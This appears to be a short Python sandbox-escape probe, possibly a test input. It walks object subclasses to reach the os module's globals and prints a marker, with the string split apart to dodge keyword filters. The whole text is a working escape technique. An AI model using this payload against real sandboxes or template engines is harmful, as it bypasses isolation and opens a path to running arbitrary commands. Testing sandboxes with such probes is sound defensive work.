# reflect: subclasses walk
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == '_wrap_close':
        print("PWN" + "ED", c.__init__.__globals__['getpid']())
